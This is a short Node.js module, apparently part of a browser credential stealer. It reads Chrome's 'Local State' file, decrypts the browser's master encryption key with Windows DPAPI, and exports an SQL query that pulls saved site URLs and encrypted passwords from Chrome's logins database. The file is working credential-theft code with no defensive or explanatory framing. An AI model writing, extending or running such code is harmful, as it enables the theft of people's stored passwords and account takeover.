const fs = require("fs");
const path = require("path");
const dpapi = require("win-dpapi");

function key(home) {
  const state = JSON.parse(fs.readFileSync(path.join(home, "Google/Chrome/User Data/Local State")));
  return dpapi.unprotectData(Buffer.from(state["os_crypt"]["encrypted_key"], "base64"), null, "CurrentUser");
}
const query = "SELECT origin_url, password_value FROM logins";
module.exports = { key, query };
